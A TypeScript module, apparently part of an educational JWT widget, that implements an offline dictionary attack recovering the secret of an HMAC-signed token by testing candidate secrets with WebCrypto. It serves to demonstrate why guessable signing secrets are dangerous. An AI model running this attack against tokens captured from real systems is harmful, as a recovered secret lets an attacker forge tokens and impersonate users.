/**
 * An offline dictionary attack on an HMAC-signed token, the way an attacker who has captured one token
 * runs it: for each candidate secret, ask WebCrypto whether that secret produces the token's signature.
 * No server is involved and nothing is sent anywhere, which is why a guessable secret is so dangerous.
 * Pure logic (no DOM): the widget runs it in a Web Worker, the tests run it in Node.
 */
import { algorithmInfo, decode, utf8Encode, type HashName } from './jwt';

/** What an attacker needs from a token: the bytes that were signed, the signature, and the hash. */
export interface AttackTarget {
  signingInput: Uint8Array;
  signature: Uint8Array;
  hash: HashName;
}

/** Takes a captured HS256/384/512 token apart; throws the core's JwtError for anything else. */
export function attackTarget(token: string): AttackTarget {
  const { header, signature } = decode(token);
  const info = algorithmInfo(header.alg);
  if (info.family !== 'HMAC') throw new Error(`This attack guesses HMAC secrets; the token is signed with ${info.alg}.`);
  const signingInput = utf8Encode(token.slice(0, token.lastIndexOf('.')));
  return { signingInput, signature, hash: info.hash };
}

export interface GuessProgress {
  /** Candidates tried so far. */
  tried: number;
  total: number;
  /** Time since the attack started, in milliseconds. */
  elapsedMs: number;
}

export interface GuessResult extends GuessProgress {
  /** The secret and its 1-based position in the list, if a candidate matched. */
  found?: { secret: string; guess: number };
  /** True when the stop signal ended the attack before the list ran out. */
  stopped: boolean;
}

export interface GuessOptions {
  onProgress?: (progress: GuessProgress) => void;
  /** Call onProgress after every this many guesses (and once at the end). */
  progressEvery?: number;
  /** Checked before every guess: abort it and the attack returns at once. */
  signal?: AbortSignal;
  /** The clock, in milliseconds; injectable for tests. */
  now?: () => number;
}

/** One guess: does this secret sign the signing input to this signature? WebCrypto compares in constant time. */
async function matches(candidate: string, target: AttackTarget): Promise<boolean> {
  const secret = utf8Encode(candidate);
  if (secret.length === 0) return false; // WebCrypto refuses an empty HMAC key, and so would any verifier.
  const key = await crypto.subtle.importKey('raw', secret as Uint8Array<ArrayBuffer>, { name: 'HMAC', hash: target.hash }, false, ['verify']);
  return crypto.subtle.verify('HMAC', key, target.signature as Uint8Array<ArrayBuffer>, target.signingInput as Uint8Array<ArrayBuffer>);
}

/** Tries each candidate in order until one matches, the list runs out, or the signal stops it. */
export async function guessSecret(candidates: readonly string[], target: AttackTarget, options: GuessOptions = {}): Promise<GuessResult> {
  const { onProgress, progressEvery = 100, signal, now = () => performance.now() } = options;
  const started = now();
  const total = candidates.length;
  const progress = (tried: number): GuessProgress => ({ tried, total, elapsedMs: now() - started });

  for (let i = 0; i < total; i++) {
    if (signal?.aborted) return { ...progress(i), stopped: true };
    const candidate = candidates[i]!;
    if (await matches(candidate, target)) {
      const result = { ...progress(i + 1), found: { secret: candidate, guess: i + 1 }, stopped: false };
      onProgress?.(result);
      return result;
    }
    if ((i + 1) % progressEvery === 0) onProgress?.(progress(i + 1));
  }
  const result = { ...progress(total), stopped: false };
  onProgress?.(result);
  return result;
}
